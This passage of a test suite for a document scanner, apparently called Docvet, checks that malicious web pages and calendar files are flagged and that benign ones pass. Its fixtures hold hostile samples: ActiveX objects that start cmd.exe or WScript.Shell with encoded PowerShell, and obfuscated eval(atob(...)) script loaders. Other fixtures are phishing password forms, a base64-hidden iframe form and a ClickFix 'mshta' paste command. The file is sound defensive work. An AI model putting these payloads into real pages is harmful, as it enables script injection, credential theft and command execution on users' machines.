        '<rect width="1"/><a href="https://example.com"><text>a</text></a><foreignObject><div>label</div></foreignObject>',
      ),
    )
  })
})

test('a control that starts a program', () => {
  has(
    Buffer.from(
      '<html><object id=a classid="clsid:52a2aaae-085d-4187-97ea-8c30db990436"><param name=Item1 value=",cmd.exe, /c calc.exe"></object></html>',
    ),
    'Html.ControlCommand',
  )
  harmless(Buffer.from('<html><object data="a.svg"><param name=quality value="high"></object></html>'))
})

test('a page says that it has scripts and links', () => {
  const { findings } = inspect(html('go()', `${PARAGRAPH}<a href="https://example.com/">a</a>`))
  assert.deepEqual(findings.map(({ id }) => id).sort(), ['Docvet.Html.Links', 'Docvet.Html.Script'])
})

suite('invisible characters', () => {
  const run = (character: string): string => character.repeat(200)
  const DECODER = 'new Proxy({},{get:(_,n)=>Function([...n].map(c=>+("\\uffa0">c)).join(""))()})'
  test('that a script runs as code are malicious', () => {
    for (const character of ['\u3164', '\uffa0', '\u200b', '\u{e0041}', '\ufe00'])
      has(html(`const o=${DECODER};o["${run(character)}"]`), 'Html.InvisibleCode')
  })
  test('in the text of a page, or a few of them, are harmless', () => {
    harmless(html('let a = 1', `${PARAGRAPH}${run('\u200b')}`))
    harmless(html('setTimeout(() => { a = "\u200b\u200b" })'))
  })
})

test('styles of a workbook in XML do not make it a page, unless they do more than define a style', () => {
  const book = (style: string): Uint8Array =>
    Buffer.from(
      `<?xml version="1.0"?><Workbook xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Styles>${style}</Styles><Cell src="https://example.com/"/></Workbook>`,
    )
  const isPage = (style: string) => inspect(book(style)).findings.some(({ id }) => id.startsWith('Docvet.Html.'))
  assert.equal(isPage('<Style ss:ID="s1" ss:Name="Normal" ss:Parent="s0"/><Style ss:ID="s2">'), false)
  assert.equal(isPage('<Style ss:ID="s1" onload="alert(1)">'), true)
  assert.equal(isPage(`<Style ss:ID="${'s'.repeat(61)}">`), true)
})

test('a page that runs a file as a part of the control panel', () => {
  has(html('["a.inf",".cpl:../../../Temp/a.inf"].forEach(function(p){f.Script.location=p})'), 'Link.HandlerAutomatic')
  harmless(html('document.title=".cpl files are parts of the control panel"'))
})

test('a password form with the hidden address of one reader', () => {
  const form = (input: string): Uint8Array =>
    html('', `<form action="https://forms.example/a.php">${input}<input type="password" name="p"></form>`)
  has(form('<input type="hidden" name="l" value="k.maier@example.org">'), 'Html.Phishing')
  assert.deepEqual(accusations(form('<input type="hidden" name="l" value="token">')), ['Html.CredentialForm'])
})

test('a password form whose address is relative to a server', () => {
  const form = '<form action="p.php"><input type="password" name="p"></form>'
  assert.deepEqual(accusations(html('', `<base href="https://forms.example/">${form}`)), ['Html.CredentialForm'])
  harmless(html('', form))
})

suite('a script whose address is joined', () => {
  const load = (address: string): Uint8Array =>
    html(`var s=document.createElement("script");s.src=${address};document.body.appendChild(s)`, '<p>Hello</p>')
  const PLAIN = [
    '(document.location.protocol=="https:"?"https://sb":"http://b")+".counter.example/beacon.js"',
    '("https:"==location.protocol?"https://ssl":"http://www")+".counter.example/ga.js"',
    '"//"+site+".comments.example/embed.js"',
    '"https://"+["cdn","counter","example"].slice(0,1)+".counter.example/a.js"',
    '"https://counter.example/"+Date.now()+".js"',
  ]
  for (const address of PLAIN) test(`from ${address} is harmless`, () => harmless(load(address)))
  const HIDDEN = [
    `atob("${btoa('https://kit.example/a.js')}")`,
    '"https://ki"+"t.exam"+"ple/a.js"',
    '["elp","maxe.tik//:sptth"].join("").split("").reverse().join("")',
    'String.fromCharCode(104,116,116,112,115,58,47,47,107,105,116,46,101,120,97,109,112,108,101)+"/a.js"',
    `"https://"+atob("${btoa('kit')}")+".exam"+"ple/a.js"`,
  ]
  for (const address of HIDDEN) test(`from ${address}`, () => has(load(address), 'Html.HiddenScript'))
})

suite('a page that hides the script it runs', () => {
  const base64 = (text: string): string => Buffer.from(text).toString('base64')
  const LOADER = "var s=document.createElement('script');s.src='https://kit.example/a.js';document.body.appendChild(s)"
  const body = (content: string): Uint8Array => Buffer.from(`<html><body>${PARAGRAPH}${content}</body></html>`)
  test('in an attribute of the same element', () => {
    for (const [attribute, reading] of [
      ['id', 'this.id'],
      ['data-code', 'this.dataset.code'],
      ['title', "this.getAttribute('title')"],
    ])
      has(body(`<img src="x:" ${attribute}="${base64(LOADER)}" onerror="eval(atob(${reading}))">`), 'Html.HiddenScript')
  })
  test('by a rare event, also in the folded description of an appointment', () => {
    const details = `<details open ontoggle="eval(atob('${base64('alert(document.cookie)')}'))"></details>`
    has(body(details), 'Html.HiddenScript')
    const folded = `X-ALT-DESC;FMTTYPE=text/html:<html><body>${details}</body></html>`.replace(/.{70}/g, '$&\r\n ')
    has(
      Buffer.from(`BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n${folded}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`),
      'Html.HiddenScript',
    )
  })
  test('is none if its events only change the page', () =>
    harmless(
      body(
        `<img src="a.png" id="logo" onerror="this.src='b.png';this.onerror=null"><details ontoggle="this.classList.toggle('open')"></details>`,
      ),
    ))
})

suite('names of the script host in a page', () => {
  const SCRIPT = '<script src="https://cdn.example/a.js"></script><script>eval("show(1)")</script>'
  const XSLT = 'xmlns:msxsl="urn:schemas-microsoft-com:xslt"'
  const pages = {
    'an element of a framework': `<html><body>${PARAGRAPH}<component :is="kind" class="a"></component>${SCRIPT}</body></html>`,
    'an element with a condition': `<html><body>${PARAGRAPH}<component v-if="a" is="b"/>${SCRIPT}</body></html>`,
    'the traces of a stylesheet': `<html><body><div class="a" ${XSLT}>${PARAGRAPH}</div>${SCRIPT}</body></html>`,
  }
  for (const [name, page] of Object.entries(pages)) test(`${name} is harmless`, () => harmless(Buffer.from(page)))
  const hostile = {
    'a component': `<component id="a">${SCRIPT}</component>`,
    'a component without a name': `<component>${SCRIPT}</component>`,
    'a job': `<job>${SCRIPT}</job>`,
    'a stylesheet': `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" ${XSLT}>${SCRIPT}</xsl:stylesheet>`,
  }
  for (const [name, page] of Object.entries(hostile)) test(name, () => has(Buffer.from(page), 'Script.Dropper'))
})

suite('a page with objects of old browsers', () => {
  const request = (name: string): string =>
    `function get(u,f){var x;try{x=new XMLHttpRequest()}catch(e){x=new ActiveXObject("${name}")}x.open("GET",u);x.onload=function(){f(eval("("+x.responseText+")"))};x.send()}get("/a.json",show)`
  for (const name of ['Microsoft.XMLHTTP', 'Msxml2.XMLHTTP.6.0', 'ShockwaveFlash.ShockwaveFlash', 'Microsoft.XMLDOM'])
    test(`${name} is harmless`, () => harmless(html(request(name))))
  for (const name of ['WScript.Shell', 'ADODB.Stream', 'Shell.Application', 'Scripting.FileSystemObject'])
    test(`${name} with requests`, () =>
      assert.notDeepEqual(accusations(html(`${request('Microsoft.XMLHTTP')};${request(name)}`)), []))
  test('a start', () =>
    has(html(`${request('Microsoft.XMLHTTP')};new ActiveXObject("WScript.Shell").Run("calc")`), 'Script.ShellObject'))
})

test('a password form in a frame whose page is coded', () => {
  const form = '<form action="https://kit.example/a.php"><input type="email"><input type="password"></form>'
  const frame = (page: string): Uint8Array =>
    html(
      `var a="${[...Buffer.from(page).toString('base64')].reverse().join('')}";var i=document.createElement("iframe");i.src="data:text/html;base64,"+a.split("").reverse().join("");document.body.appendChild(i)`,
    )
  has(frame(form), 'Html.Phishing')
  harmless(frame('<p>Preview of the letter</p>'))
})

test('a password form that asks for the code of a card as well', () => {
  const form = (fields: string): Uint8Array =>
    html('', `${PARAGRAPH}<form action="https://bank.example/a.php"><input type="password" name="pin">${fields}</form>`)
  has(form('<input name="card"><input name="cvv">'), 'Html.Phishing')
  has(form('<input name="x" placeholder="pushTAN">'), 'Html.Phishing')
  assert.deepEqual(accusations(form('<input name="titan"><input name="account">')), ['Html.CredentialForm'])
  harmless(html('', '<form action="https://shop.example/pay"><input name="card"><input name="cvv"></form>'))
})

test('an article about pasted commands may have a button that copies its address', () => {
  const article = (warning: string): Uint8Array =>
    html(
      '',
      `<p>You are told to press Win+R, paste with Ctrl+V and press Enter to verify that you are not a robot: <code>mshta https://a.example/x.hta</code></p><p>${warning}</p><button onclick="navigator.clipboard.writeText(location.href)">Copy</button>`,
    )
  harmless(article('Never paste commands from web pages.'))
  has(article('Then the page opens.'), 'Html.ClickFix')
})

suite('a script without an end', () => {
  const source = 'new ActiveXObject("WScript.Shell").Run("powershell -enc aQBlAHgA")'
  const found = (name: string, text: string): boolean =>
    inspect(Buffer.from(text), { name, passwords: [] }).findings.some(({ severity }) => severity !== 'notice')
  const prose = 'The tag of a script is written as follows.\n'

  test('is a mention in a text, and a script in a page', () => {
    assert.equal(found('manual.txt', `${prose}<script>${source}\n`), false)
    assert.equal(found('types.d.ts', `/** ${prose} <script> */\ndeclare const a: 1\n${source}\n`), false)
    for (const name of ['a.hta', 'a.wsf', 'a.php']) assert.equal(found(name, `${prose}<script>${source}\n`), true, name)
    assert.equal(found('a.txt', `<html><script>${source}\n`), true)
  })

  test('with its end runs under any name', () => {
    assert.equal(found('manual.ts', `// ${prose}<script>${source}</script>\n`), true)
  })
})

test('a report that exports what it shows as JSON', () =>
  harmless(
    html(
      'function save(n,t){const a=document.createElement("a");a.href=URL.createObjectURL(new Blob([t]));a.download=n;a.click()}json.onclick=()=>save("a.json",JSON.stringify([...document.querySelectorAll("td")].map((c)=>c.textContent)))',
      `${PARAGRAPH}<button id="json">Export</button>`,
    ),
  ))
